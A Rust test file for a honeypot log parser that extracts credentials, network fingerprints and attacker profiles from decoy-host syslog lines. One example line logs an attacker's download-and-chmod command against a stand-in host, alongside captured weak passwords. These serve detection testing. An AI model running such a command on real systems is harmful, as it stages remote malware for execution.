//! Spec §2.4 example lines and the pure §15 cases, plus property tests.

use proptest::prelude::*;

use super::credential::sha256_hex;
use super::observation::{command_text, NotIndexed};
use super::*;

/// The example lines of spec §2.4, verbatim.
pub(super) const EXAMPLES: [&str; 13] = [
    r#"<134>1 2026-05-14T09:12:03.481220+00:00 web-decky-03 auth-helper - auth_attempt [relay@55555 username="admin" principal="admin" secret_printable="P@ssw0rd!" secret_b64="UEBzc3cwcmQh" src_ip="203.0.113.45"]"#,
    r#"<134>1 2026-05-14T09:12:05.002117+00:00 web-decky-03 auth-helper - auth_attempt [relay@55555 username="root" principal="root" secret_printable="?admin?" secret_b64="AGFkbWlu/w==" src_ip="203.0.113.45"]"#,
    r#"<14>1 2026-05-14T09:12:41.102934+00:00 web-decky-03 1 - - -  2026-05-14T09:12:41.102911+00:00 web-decky-03 bash - command [timeQuality tzKnown="1" isSynced="1"] CMD uid=0 user=root src=203.0.113.45 pwd=/tmp cmd=wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x"#,
    r#"<134>1 2026-05-14T09:12:44.550102+00:00 web-decky-03 ssh - file_captured [relay@55555 stored_as="2026-05-14T09:12:44Z_7244c4edb45a_.x" sha256="7244c4edb45a6ebc164882075ba9c64484b7357a80cfc393135b8c442046a4c7" size="48212" orig_path="/tmp/.x" src_ip="203.0.113.45" src_port="51822" ssh_user="root" attribution="pid-chain" writer_comm="wget"]"#,
    r#"<134>1 2026-05-14T09:20:10.004512+00:00 intranet-02 http - request [relay@55555 method="POST" path="/wp-login.php" remote_addr="198.51.100.77" headers="{\"Host\": \"10.20.0.12\", \"User-Agent\": \"Mozilla/5.0 (compatible; Nuclei - Open-source project)\", \"X-Forwarded-For\": \"127.0.0.1\", \"Content-Type\": \"application/x-www-form-urlencoded\"}" body="log=admin&pwd=letmein" principal="admin" secret_kind="plaintext" secret_printable="letmein" secret_b64="bGV0bWVpbg=="]"#,
    r#"<134>1 2026-05-14T09:20:10.010230+00:00 intranet-02 http - http_request_fingerprint [relay@55555 remote_addr="198.51.100.77:40122" proto="h1" method="POST" path="/wp-login.php" ja4h="po11nn0000_04_3f2a1c9b8d7e_000000000000" headers_ordered="[\"host\", \"user-agent\", \"x-forwarded-for\", \"content-type\"]" cookie="" accept_language=""]"#,
    r#"<134>1 2026-05-14T09:21:55.771003+00:00 intranet-02 sniffer - tls_client_hello [relay@55555 src_ip="198.51.100.77" src_port="40130" dst_ip="10.20.0.12" dst_port="443" ja3="920a9eebe236a8205f28dd68763c3d0f" ja4="t13d1516h2_8daaf6152771_02713d6af862" tls_version="TLS 1.3" sni="intranet.corp.example" alpn="h2,http/1.1" raw_ciphers="4865-4866-4867-49195" raw_extensions="0-23-65281-10-11-35-16"]"#,
    r#"<134>1 2026-05-14T09:25:00.120044+00:00 decnet-prober prober - jarm_fingerprint [relay@55555 target_ip="198.51.100.77" target_port="8443" jarm_hash="2ad2ad0002ad2ad22c2ad2ad2ad2ad2eac92ec34bcc0cf7520e97547f83e81"] JARM 198.51.100.77:8443 = 2ad2ad0002ad2ad22c2ad2ad2ad2ad2eac92ec34bcc0cf7520e97547f83e81"#,
    r#"<134>1 2026-05-14T09:25:01.884310+00:00 decnet-prober prober - tls_certificate [relay@55555 target_ip="198.51.100.77" target_port="8443" subject_cn="update-cdn.example" issuer="CN=update-cdn.example" self_signed="true" not_before="2026-03-01T00:00:00+00:00" not_after="2027-03-01T00:00:00+00:00" sans="update-cdn.example,*.update-cdn.example" cert_sha256="9fbda61d1ee5d808b1f7169a5bf4085f16a248649a7e42dff0342df7562d7019"] TLS cert 198.51.100.77:8443 CN=update-cdn.example sha256=9fbda61d1ee5d808..."#,
    r#"<134>1 2026-05-14T09:25:03.310777+00:00 decnet-prober prober - hassh_fingerprint [relay@55555 target_ip="198.51.100.77" target_port="22" hassh_server_hash="4b93a7ce3a336cf77b1fea112db4400c" ssh_banner="SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6" kex_algorithms="curve25519-sha256,ecdh-sha2-nistp256" encryption_s2c="chacha20-poly1305@openssh.com,aes256-gcm@openssh.com" mac_s2c="hmac-sha2-256-etm@openssh.com" compression_s2c="none,zlib@openssh.com"] HASSH 198.51.100.77:22 = 4b93a7ce3a336cf77b1fea112db4400c"#,
    r#"<134>1 2026-05-14T09:30:00.000412+00:00 mail-01 smtp - connect [relay@55555 src_ip="192.0.2.10" src_port="50022"]"#,
    r#"<38>1 2026-05-14T09:12:02.990001+00:00 web-decky-03 sshd 940 - - Failed password for admin from 203.0.113.45 port 51822 ssh2"#,
    "Connection reset by peer",
];

fn p(i: usize) -> Record {
    parse_line(EXAMPLES[i]).unwrap_or_else(|e| panic!("example line {} failed: {e}", i + 1))
}

fn x(i: usize) -> Extraction {
    extract(&p(i), &ExtractConfig::default())
}

fn payload(b: &BountyDraft) -> serde_json::Value {
    serde_json::from_str(&b.payload).unwrap()
}

fn fp_types(e: &Extraction) -> Vec<(&'static str, Option<&'static str>)> {
    e.bounties
        .iter()
        .map(|b| (b.bounty_type, b.fingerprint_type))
        .collect()
}

#[test]
fn line1_credential() {
    let r = p(0);
    assert_eq!(
        (r.decky.as_str(), r.service.as_str(), r.event_type.as_str()),
        ("web-decky-03", "auth-helper", "auth_attempt")
    );
    assert_eq!(r.attacker_ip, "203.0.113.45");
    assert_eq!(r.timestamp_display(), "2026-05-14 09:12:03");
    let e = x(0);
    let c = e.credential.clone().unwrap().unwrap();
    assert_eq!(c.secret_sha256, sha256_hex(b"P@ssw0rd!"));
    assert_eq!(c.principal.as_deref(), Some("admin"));
    assert_eq!(c.secret_printable.as_deref(), Some("P@ssw0rd!"));
    assert!(e.bounties.is_empty());
}

#[test]
fn line2_sha_over_exact_bytes() {
    let c = x(1).credential.unwrap().unwrap();
    assert_eq!(
        c.secret_sha256,
        sha256_hex(&[0x00, 0x61, 0x64, 0x6d, 0x69, 0x6e, 0xff])
    );
    assert_eq!(c.principal.as_deref(), Some("root"));
}

#[test]
fn line3_wrapped_bash() {
    let r = p(2);
    assert_eq!(r.decky, "web-decky-03");
    assert_eq!(r.service, "bash");
    assert_eq!(r.event_type, "command");
    assert_eq!(r.attacker_ip, "203.0.113.45");
    assert!(r.fields().is_empty(), "collector leaves fields empty");
    assert!(r.msg.starts_with("CMD uid=0"));
    assert!(r
        .msg
        .contains("cmd=wget -q http://198.51.100.23:8080/x86.bin"));
    // outer timestamp kept
    assert_eq!(r.timestamp_display(), "2026-05-14 09:12:41");
    assert_eq!(
        command_text(&r).as_deref(),
        Some("wget -q http://198.51.100.23:8080/x86.bin -O /tmp/.x; chmod +x /tmp/.x")
    );
    assert!(x(2).bounties.is_empty());
}

#[test]
fn line4_artifact_payload_hash() {
    let e = x(3);
    assert_eq!(fp_types(&e), vec![("artifact", None)]);
    let b = &e.bounties[0];
    assert_eq!(b.attacker_ip, "203.0.113.45");
    assert_eq!(
        b.payload,
        r#"{"kind":"file","stored_as":"2026-05-14T09:12:44Z_7244c4edb45a_.x","sha256":"7244c4edb45a6ebc164882075ba9c64484b7357a80cfc393135b8c442046a4c7","size":"48212","orig_path":"/tmp/.x","attribution":"pid-chain","writer_comm":"wget"}"#
    );
}

#[test]
fn line5_http_request() {
    let r = p(4);
    assert_eq!(r.attacker_ip, "198.51.100.77");
    let e = x(4);
    let c = e.credential.clone().unwrap().unwrap();
    assert_eq!(c.principal.as_deref(), Some("admin"));
    assert_eq!(c.secret_sha256, sha256_hex(b"letmein"));
    assert_eq!(
        fp_types(&e),
        vec![
            ("fingerprint", Some("http_useragent")),
            ("fingerprint", Some("spoofed_source")),
            ("fingerprint", Some("http_quirks")),
        ]
    );
    let ua = payload(&e.bounties[0]);
    assert_eq!(ua["category"], "scanner");
    assert_eq!(ua["tool"], "nuclei");
    assert_eq!(ua["signals"], serde_json::Value::Null);
    assert_eq!(ua["method"], "POST");
    assert_eq!(ua["path"], "/wp-login.php");
    let sp = payload(&e.bounties[1]);
    assert_eq!(sp["claimed_ip"], "127.0.0.1");
    assert_eq!(sp["claim_category"], "loopback");
    assert_eq!(sp["source_header"], "X-Forwarded-For");
    assert_eq!(sp["headers_seen"]["X-Forwarded-For"], "127.0.0.1");
    let q = payload(&e.bounties[2]);
    assert_eq!(
        q["order"],
        serde_json::json!(["Host", "User-Agent", "Content-Type"])
    );
    assert_eq!(q["stable_count"], 3);
    assert_eq!(q["casing_category"], "title");
    // key order is normative
    assert!(e.bounties[0]
        .payload
        .starts_with(r#"{"fingerprint_type":"http_useragent","value":"#));
    assert!(e.bounties[1].payload.starts_with(
        r#"{"fingerprint_type":"spoofed_source","source_ip":"198.51.100.77","claimed_ip""#
    ));
}

#[test]
fn line6_ja4h_and_remote_port() {
    let r = p(5);
    assert_eq!(r.attacker_ip, "198.51.100.77");
    assert_eq!(r.fields().get("remote_port"), Some("40122"));
    let e = x(5);
    assert_eq!(fp_types(&e), vec![("fingerprint", Some("ja4h"))]);
    assert_eq!(
        e.bounties[0].payload,
        r#"{"fingerprint_type":"ja4h","ja4h":"po11nn0000_04_3f2a1c9b8d7e_000000000000","protocol":"h1","method":"POST","path":"/wp-login.php","remote_port":"40122"}"#
    );
}

#[test]
fn line7_ja3() {
    let e = x(6);
    assert_eq!(fp_types(&e), vec![("fingerprint", Some("ja3"))]);
    let v = payload(&e.bounties[0]);
    assert_eq!(v["ja3"], "920a9eebe236a8205f28dd68763c3d0f");
    assert_eq!(v["ja3s"], serde_json::Value::Null);
    assert_eq!(v["sni"], "intranet.corp.example");
    assert_eq!(v["dst_port"], "443");
    assert_eq!(e.bounties[0].attacker_ip, "198.51.100.77");
}

#[test]
fn lines8_to_10_prober_bounties_on_target() {
    for (i, fp) in [(7, "jarm"), (8, "tls_certificate"), (9, "hassh_server")] {
        let r = p(i);
        assert_eq!(r.attacker_ip, "198.51.100.77");
        assert!(!r.msg.is_empty());
        let e = x(i);
        assert_eq!(
            fp_types(&e),
            vec![("fingerprint", Some(fp))],
            "line {}",
            i + 1
        );
        assert_eq!(e.bounties[0].attacker_ip, "198.51.100.77");
        assert_eq!(e.bounties[0].service, "prober");
    }
    let cert = payload(&x(8).bounties[0]);
    assert_eq!(
        cert["cert_sha256"],
        "9fbda61d1ee5d808b1f7169a5bf4085f16a248649a7e42dff0342df7562d7019"
    );
    assert_eq!(cert["self_signed"], "true");
    assert_eq!(cert["target_port"], "8443");
    assert!(x(8).bounties[0].payload.starts_with(
        r#"{"fingerprint_type":"tls_certificate","subject_cn":"update-cdn.example","issuer""#
    ));
    let h = payload(&x(9).bounties[0]);
    assert_eq!(h["hash"], "4b93a7ce3a336cf77b1fea112db4400c");
    assert_eq!(h["compression_s2c"], "none,zlib@openssh.com");
}

#[test]
fn line11_rate_limited_within_a_second() {
    let r = p(10);
    assert_eq!(r.attacker_ip, "192.0.2.10");
    let mut f = CollectorFilter::default();
    assert_eq!(f.admit(&r, 100.0), Admission::Accept);
    assert_eq!(f.admit(&r, 100.9), Admission::RateLimited);
}

#[test]
fn line12_prose_ip_but_noise() {
    let r = p(11);
    assert_eq!(r.attacker_ip, "203.0.113.45");
    assert_eq!(r.procid, "940");
    assert_eq!(r.event_type, "-");
    assert_eq!(
        CollectorFilter::default().admit(&r, 0.0),
        Admission::DropApp
    );
    let mut b = ObservationBatch::new();
    assert_eq!(b.observe(&r), Err(NotIndexed::NativeProcid));
}

#[test]
fn line13_rejected() {
    assert!(matches!(
        parse_line(EXAMPLES[12]),
        Err(ParseError::Header(HeaderError::MissingPri))
    ));
}

// ---- §15 parsing cases ----

#[test]
fn rejects_non_syslog_and_empty() {
    assert_eq!(parse_line(""), Err(ParseError::Empty));
    assert_eq!(parse_line("   \r\n"), Err(ParseError::Empty));
    assert!(matches!(
        parse_line("hello world"),
        Err(ParseError::Header(_))
    ));
    assert_eq!(
        parse_line("<x>1 a b c d e f"),
        Err(ParseError::Header(HeaderError::BadPri))
    );
    assert_eq!(
        parse_line("<13>2 a b c d e f"),
        Err(ParseError::Header(HeaderError::BadVersion))
    );
    assert_eq!(
        parse_line("<13>1 a b c d e"),
        Err(ParseError::Header(HeaderError::EmptyRemainder))
    );
    assert_eq!(
        parse_line("<13>1 a b c d e "),
        Err(ParseError::Header(HeaderError::EmptyRemainder))
    );
    assert_eq!(
        parse_line("<13>1 a  b c d e f"),
        Err(ParseError::Header(HeaderError::MissingField("HOSTNAME")))
    );
    let r = parse_line("<134>1 2024-01-15T12:00:00+00:00 decky-1 ssh - login_attempt -").unwrap();
    assert_eq!(
        (r.decky.as_str(), r.service.as_str(), r.event_type.as_str()),
        ("decky-1", "ssh", "login_attempt")
    );
    assert_eq!(r.timestamp_display(), "2024-01-15 12:00:00");
    assert_eq!(r.attacker_ip, UNKNOWN_IP);
}

#[test]
fn real_procid_accepted_and_prose() {
    let r = parse_line("<38>1 2024-01-15T12:00:00Z d sshd 1234 - - Connection from 198.51.100.9 port 5555 on 10.0.0.2 port 22").unwrap();
    assert_eq!(r.attacker_ip, "198.51.100.9");
    let r = parse_line(
        "<38>1 2024-01-15T12:00:00Z d sshd 1234 - - Invalid user root 198.51.100.3 port 5555",
    )
    .unwrap();
    assert_eq!(r.attacker_ip, "198.51.100.3");
    let r = parse_line(
        "<38>1 2024-01-15T12:00:00Z d pam 1 - - auth failure; rhost=198.51.100.4 user=x",
    )
    .unwrap();
    assert_eq!(r.attacker_ip, "198.51.100.4");
}

#[test]
fn sd_ip_beats_msg_and_msg_kv_not_in_fields() {
    let r = parse_line(
        r#"<134>1 2024-01-15T12:00:00Z d svc - ev [relay@55555 src_ip="1.1.1.1"] src=2.2.2.2"#,
    )
    .unwrap();
    assert_eq!(r.attacker_ip, "1.1.1.1");
    assert_eq!(r.msg, "src=2.2.2.2");
    let r = parse_line("<134>1 2024-01-15T12:00:00Z d svc - ev - user=x src=2.2.2.2").unwrap();
    assert_eq!(r.attacker_ip, "2.2.2.2");
    assert!(r.fields().is_empty());
}

#[test]
fn escapes_timestamps_and_msg_forms() {
    let r = parse_line(r#"<134>1 2024-01-15T12:00:00Z d svc - ev [relay@55555 q="a \"b\" c" br="x\]y" bs="p\\q" src_ip="1.2.3.4"] after text"#).unwrap();
    assert_eq!(r.fields().get("q"), Some("a \"b\" c"));
    assert_eq!(
        r.fields().get("br"),
        Some("x]y"),
        "escaped ] must not end the element"
    );
    assert_eq!(r.fields().get("bs"), Some("p\\q"));
    assert_eq!(r.attacker_ip, "1.2.3.4");
    assert_eq!(r.msg, "after text");
    let r = parse_line("<134>1 not-a-time d svc - ev - hello").unwrap();
    assert_eq!(r.timestamp, None);
    assert_eq!(r.timestamp_display(), "not-a-time");
    assert_eq!(r.msg, "hello");
    let r =
        parse_line("<134>1 2024-01-15T12:00:00.123456+02:00 d svc - ev plain text body").unwrap();
    assert_eq!(r.msg, "plain text body");
    assert_eq!(
        r.timestamp_display(),
        "2024-01-15 10:00:00",
        "offset applied, stored as UTC"
    );
    let r = parse_line("<134>1 2024-01-15T12:00:00 d svc - ev -").unwrap();
    assert_eq!(r.timestamp_display(), "2024-01-15 12:00:00");
    assert_eq!(r.msg, "");
}

#[test]
fn unwrap_rules() {
    // outer real MSGID is never unwrapped
    let r = parse_line("<14>1 2024-01-15T12:00:00Z outer app - realmsg -  2024-01-15T12:00:00Z inner bash - command - CMD x").unwrap();
    assert_eq!(
        (r.decky.as_str(), r.event_type.as_str()),
        ("outer", "realmsg")
    );
    // NIL MSGID with prose stays "-"
    let r = parse_line("<14>1 2024-01-15T12:00:00Z d app - - - just some prose").unwrap();
    assert_eq!(r.event_type, "-");
    assert_eq!(r.msg, "just some prose");
    // NIL MSGID + CMD body normalizes
    let r =
        parse_line("<14>1 2024-01-15T12:00:00Z d bash - - - CMD uid=0 src=5.6.7.8 cmd=id").unwrap();
    assert_eq!(r.event_type, "command");
    assert_eq!(r.attacker_ip, "5.6.7.8");
}

#[test]
fn profiler_rules() {
    let mut b = ObservationBatch::new();
    let nil_decky =
        parse_line(r#"<134>1 2024-01-15T12:00:00Z - svc - ev [relay@55555 src_ip="1.2.3.4"]"#)
            .unwrap();
    assert_eq!(b.observe(&nil_decky), Err(NotIndexed::NilHeader));
    let nil_svc =
        parse_line(r#"<134>1 2024-01-15T12:00:00Z d - - ev [relay@55555 src_ip="1.2.3.4"]"#)
            .unwrap();
    assert_eq!(b.observe(&nil_svc), Err(NotIndexed::NilHeader));
    let bad_ts =
        parse_line(r#"<134>1 yesterday d svc - ev [relay@55555 src_ip="1.2.3.4"]"#).unwrap();
    assert_eq!(b.observe(&bad_ts), Err(NotIndexed::BadTimestamp));
    let mutation = parse_line(
        r#"<134>1 2024-01-15T12:00:00Z d mutator - decky_mutated [relay@55555 old="a" new="b"]"#,
    )
    .unwrap();
    assert_eq!(b.observe(&mutation), Err(NotIndexed::Mutation));
    let no_ip = parse_line("<134>1 2024-01-15T12:00:00Z d svc - ev -").unwrap();
    assert_eq!(b.observe(&no_ip), Err(NotIndexed::NoAttackerIp));
    assert!(b.is_empty());
}

#[test]
fn observation_over_the_example_corpus() {
    let mut b = ObservationBatch::new();
    for line in EXAMPLES.iter() {
        if let Ok(r) = parse_line(line) {
            let _ = b.observe(&r);
        }
    }
    let deltas = b.into_deltas();
    let ips: Vec<&str> = deltas.iter().map(|d| d.ip.as_str()).collect();
    assert_eq!(ips, vec!["203.0.113.45", "198.51.100.77", "192.0.2.10"]);
    let a = merge_profile(None, &deltas[0]).unwrap();
    assert_eq!(a.event_count, 4);
    assert_eq!(a.services, vec!["auth-helper", "bash", "ssh"]);
    assert_eq!(a.commands.len(), 1);
    assert!(!a.is_traversal);
    let m = merge_profile(None, &deltas[1]).unwrap();
    // prober events count in services/deckies but never make a traversal
    assert_eq!(m.services, vec!["http", "prober", "sniffer"]);
    assert_eq!(m.deckies, vec!["intranet-02", "decnet-prober"]);
    assert_eq!(m.decky_count, 2);
    assert!(!m.is_traversal);
    assert_eq!(m.traversal_path, None);
}

#[test]
fn incremental_merge_equals_one_shot() {
    let lines = [
        r#"<134>1 2024-01-15T12:00:05Z alpha ssh - auth [relay@55555 src_ip="9.9.9.9"]"#,
        r#"<134>1 2024-01-15T12:00:01Z decnet-prober prober - jarm_fingerprint [relay@55555 target_ip="9.9.9.9" jarm_hash="x"]"#,
        r#"<134>1 2024-01-15T12:00:09Z beta http - request [relay@55555 src_ip="9.9.9.9"]"#,
        r#"<14>1 2024-01-15T12:00:10Z beta bash - - - CMD uid=0 src=9.9.9.9 cmd=uname -a"#,
        r#"<134>1 2024-01-15T12:00:12Z gamma ftp - connect [relay@55555 src_ip="9.9.9.9"]"#,
    ];
    let recs: Vec<Record> = lines.iter().map(|l| parse_line(l).unwrap()).collect();
    let mut one = ObservationBatch::new();
    recs.iter().for_each(|r| one.observe(r).unwrap());
    let whole = merge_profile(None, &one.into_deltas()[0]).unwrap();
    let mut acc: Option<AttackerProfile> = None;
    for chunk in recs.chunks(2) {
        let mut b = ObservationBatch::new();
        chunk.iter().for_each(|r| b.observe(r).unwrap());
        for d in b.into_deltas() {
            acc = merge_profile(acc.as_ref(), &d);
        }
    }
    assert_eq!(acc.as_ref(), Some(&whole));
    assert!(whole.is_traversal);
    assert_eq!(
        whole.traversal_path.as_deref(),
        Some("alpha → beta → gamma")
    );
    assert_eq!(whole.deckies, vec!["alpha", "beta", "gamma"]);
    assert_eq!(whole.decky_count, 4);
    assert_eq!(whole.event_count, 5);
    assert_eq!(whole.first_seen.to_string(), "2024-01-15 12:00:01");
    assert_eq!(whole.last_seen.to_string(), "2024-01-15 12:00:12");
    assert_eq!(whole.commands[0].command, "uname -a");
}

#[test]
fn json_stream_records() {
    let line = r#"{"timestamp":"2026-05-14 09:12:03","decky":"d","service":"http","event_type":"request","attacker_ip":"1.2.3.4","fields":{"z":"1","headers":{"User-Agent":"curl/8","Host":"h"},"secret_b64":"YQ=="},"msg":"","raw_line":"<134>1 …","_trace":{"x":"y"}}"#;
    let r = parse_json_record(line).unwrap();
    assert_eq!(
        r.fields().iter().map(|(k, _)| k).collect::<Vec<_>>(),
        vec!["z", "headers", "secret_b64"]
    );
    assert_eq!(r.timestamp_display(), "2026-05-14 09:12:03");
    let e = extract(&r, &ExtractConfig::default());
    assert!(e.credential.is_some());
    assert_eq!(e.bounties.len(), 2, "UA + quirks");
    let q = payload(&e.bounties[1]);
    assert_eq!(q["order"], serde_json::json!(["User-Agent", "Host"]));
    // non-object fields → nothing extracted
    let r = parse_json_record(
        r#"{"decky":"d","service":"http","event_type":"http2_settings","fields":"nope"}"#,
    )
    .unwrap();
    assert!(r.fields.is_none());
    assert_eq!(
        extract(&r, &ExtractConfig::default()),
        Extraction::default()
    );
    assert!(matches!(
        parse_json_record("{not json"),
        Err(ParseError::Json(_))
    ));
    assert!(matches!(
        parse_json_record("[1,2]"),
        Err(ParseError::Json(_))
    ));
}

// ---- §15 bounty cases that are pure ----

fn rec_with(service: &str, event: &str, sd: &str) -> Record {
    parse_line(&format!(
        "<134>1 2026-05-14T09:00:00Z d1 {service} - {event} [relay@55555 src_ip=\"7.7.7.7\" {sd}]"
    ))
    .unwrap()
}

#[test]
fn prober_fields_on_other_services_ignored() {
    let sd =
        r#"target_ip="9.9.9.9" jarm_hash="j" hassh_server_hash="h" tcpfp_hash="t" subject_cn="cn""#;
    assert!(
        extract(&rec_with("http", "x", sd), &ExtractConfig::default())
            .bounties
            .is_empty()
    );
    let e = extract(&rec_with("prober", "x", sd), &ExtractConfig::default());
    assert_eq!(
        fp_types(&e)
            .iter()
            .map(|t| t.1.unwrap())
            .collect::<Vec<_>>(),
        vec!["jarm", "tls_certificate", "hassh_server", "tcpfp"]
    );
    assert!(e.bounties.iter().all(|b| b.attacker_ip == "9.9.9.9"));
    // missing hash → no bounty
    assert!(extract(
        &rec_with("prober", "x", r#"target_ip="9.9.9.9" jarm_hash="""#),
        &ExtractConfig::default()
    )
    .bounties
    .is_empty());
    // sniffer subject_cn → clause 8 only (no cert_sha256, no target fields)
    let e = extract(
        &rec_with("sniffer", "tls_certificate", r#"subject_cn="cn" sni="""#),
        &ExtractConfig::default(),
    );
    assert_eq!(fp_types(&e), vec![("fingerprint", Some("tls_certificate"))]);
    assert_eq!(
        e.bounties[0].payload,
        r#"{"fingerprint_type":"tls_certificate","subject_cn":"cn","issuer":null,"self_signed":null,"not_before":null,"not_after":null,"sans":null,"sni":null}"#
    );
}

#[test]
fn icmp_shapes() {
    let e = extract(
        &rec_with(
            "prober",
            "icmp_fingerprint",
            r#"icmp_fp_hash="h" icmp_matrix="m" icmp_port_unreach="1" icmp_port_unreach_rtt_ms="3.1" icmp_time_exceeded="0" icmp_time_exceeded_hop="" target_port="80""#,
        ),
        &ExtractConfig::default(),
    );
    assert_eq!(
        e.bounties[0].attacker_ip, "7.7.7.7",
        "falls back to the record ip"
    );
    assert_eq!(
        e.bounties[0].payload,
        r#"{"fingerprint_type":"icmp_error","matrix":"m","fp_hash":"h","errors":{"port_unreachable":{"returned":true,"rtt_ms":"3.1"},"time_exceeded":{"returned":false,"rtt_ms":null,"src_ip":null},"frag_needed":{"returned":false,"rtt_ms":null},"param_problem":{"returned":false,"rtt_ms":null}},"target_ip":null,"target_port":"80"}"#
    );
    let e = extract(
        &rec_with(
            "prober",
            "icmp6_fingerprint",
            r#"icmp6_fp_hash="h6" target_ip="2001:db8::5" icmp6_hop_limit_exceeded="1" icmp6_hop_limit_exceeded_hop="fe80::1""#,
        ),
        &ExtractConfig::default(),
    );
    let v = payload(&e.bounties[0]);
    assert_eq!(v["fingerprint_type"], "icmp6_error");
    assert_eq!(v["errors"]["hop_limit_exceeded"]["src_ip"], "fe80::1");
    assert_eq!(v["errors"]["bad_dest_option"]["returned"], false);
    assert_eq!(e.bounties[0].attacker_ip, "2001:db8::5");
}

#[test]
fn artifacts_and_mail() {
    assert!(extract(
        &rec_with("ssh", "file_captured", r#"sha256="x""#),
        &ExtractConfig::default()
    )
    .bounties
    .is_empty());
    let e = extract(
        &rec_with(
            "smtp_relay",
            "message_stored",
            r#"stored_as="m1" subject="hi""#,
        ),
        &ExtractConfig::default(),
    );
    assert_eq!(fp_types(&e), vec![("artifact", None)]);
    assert!(e.email_received && e.smtp_probe_pending);
    assert_eq!(payload(&e.bounties[0])["kind"], "mail");
    let e = extract(
        &rec_with("smtp", "message_stored", r#"stored_as="m1""#),
        &ExtractConfig::default(),
    );
    assert!(e.email_received && !e.smtp_probe_pending);
}

#[test]
fn ja4h_legacy_and_settings_and_quic() {
    assert!(extract(
        &rec_with("http", "http_request_fingerprint", r#"proto="h2""#),
        &ExtractConfig::default()
    )
    .bounties
    .is_empty());
    let e = extract(
        &rec_with(
            "https",
            "http2_settings",
            r#"settings="[[1,65536]]" frame_order="[4,8]""#,
        ),
        &ExtractConfig::default(),
    );
    assert_eq!(
        e.bounties[0].payload,
        r#"{"fingerprint_type":"http2_settings","settings":"[[1,65536]]","frame_order":"[4,8]","protocol":"h2","remote_port":null}"#
    );
    let e = extract(
        &rec_with(
            "sniffer",
            "quic_client_hello",
            r#"ja4_quic="q13" alpn="h3""#,
        ),
        &ExtractConfig::default(),
    );
    assert_eq!(
        e.bounties[0].payload,
        r#"{"fingerprint_type":"ja4_quic","ja4_quic":"q13","sni":null,"alpn":"h3","raw_ciphers":null}"#
    );
    let e = extract(
        &rec_with("vnc", "version", r#"client_version="RFB 003.008""#),
        &ExtractConfig::default(),
    );
    assert_eq!(
        e.bounties[0].payload,
        r#"{"fingerprint_type":"vnc_client_version","value":"RFB 003.008"}"#
    );
}

#[test]
fn payloads_are_deterministic_for_dedup() {
    let a = extract(&p(4), &ExtractConfig::default());
    let b = extract(&p(4), &ExtractConfig::default());
    assert_eq!(a.bounties, b.bounties);
    // quirks payload carries no per-request data
    let other = parse_line(
        &EXAMPLES[4]
            .replace("/wp-login.php", "/admin")
            .replace("POST", "GET"),
    )
    .unwrap();
    let c = extract(&other, &ExtractConfig::default());
    assert_eq!(a.bounties[2].payload, c.bounties[2].payload);
    assert_ne!(a.bounties[0].payload, c.bounties[0].payload);
}

#[test]
fn trusted_proxy_suppresses_claims() {
    let (tp, _) = TrustedProxies::parse("198.51.100.0/24");
    let e = extract(
        &p(4),
        &ExtractConfig {
            trusted_proxies: tp,
        },
    );
    assert_eq!(
        fp_types(&e),
        vec![
            ("fingerprint", Some("http_useragent")),
            ("fingerprint", Some("http_quirks"))
        ]
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        if let Ok(r) = parse_line_bytes(&bytes) {
            let _ = extract(&r, &ExtractConfig::default());
            let mut b = ObservationBatch::new();
            let _ = b.observe(&r);
        }
        let _ = parse_json_record(&String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn arbitrary_strings_never_panic(s in "\\PC*") {
        let _ = parse_line(&s);
        let _ = parse_json_record(&s);
        let _ = ip::anchored_ip(&s);
        let _ = ip::first_bare_ipv4(&s);
        let _ = ua::classify_ua(&s);
        let _ = parse_host_port(&s);
    }

    #[test]
    fn syslog_shaped_strings_never_panic(
        head in "<[0-9]{1,3}>1 [!-~]{1,30} [!-~]{1,10} [!-~]{1,10} [-0-9]{1,4} [!-~]{1,12} ",
        rest in "(\\[relay@55555( [a-z_]{1,8}=\"([^\"\\\\\\]]|\\\\[\"\\\\\\]n])*\"){0,6}\\])?[ -~\u{e9}\u{2603}]{0,80}",
    ) {
        let line = format!("{head}{rest}");
        if let Ok(r) = parse_line(&line) {
            let _ = extract(&r, &ExtractConfig::default());
            prop_assert!(!r.attacker_ip.is_empty());
        }
    }

    #[test]
    fn sd_values_round_trip(vals in proptest::collection::vec("[^\u{0}]{0,20}", 1..5)) {
        let params: Vec<(String, String)> = vals.iter().enumerate().map(|(i, v)| (format!("k{i}"), v.clone())).collect();
        let el = sd::render_relay_element(params.iter().map(|(k, v)| (k.as_str(), v.as_str())));
        let line = format!("<134>1 2026-05-14T09:00:00Z d s - e {el} tail");
        let r = parse_line(&line).unwrap();
        for (k, v) in &params {
            prop_assert_eq!(r.fields().get(k), Some(v.as_str()));
        }
        prop_assert_eq!(r.msg.as_str(), "tail");
    }
}

#[test]
fn storable_text_is_exact_or_says_it_is_not() {
    use super::storable_text;
    use std::borrow::Cow;
    assert!(matches!(
        storable_text(b"<13>1 ok \x01\x1b\t"),
        Cow::Borrowed("<13>1 ok \x01\x1b\t")
    ));
    let nul = storable_text(b"a\0b");
    assert!(matches!(nul, Cow::Owned(_)));
    assert_eq!(nul, "a\u{FFFD}b");
    assert_eq!(storable_text(b"x\xff\xfey"), "x\u{FFFD}\u{FFFD}y");
    assert_eq!(
        storable_text(b"x\xfe\xffy"),
        storable_text(b"x\xff\xfey"),
        "only the bytes tell them apart"
    );
}
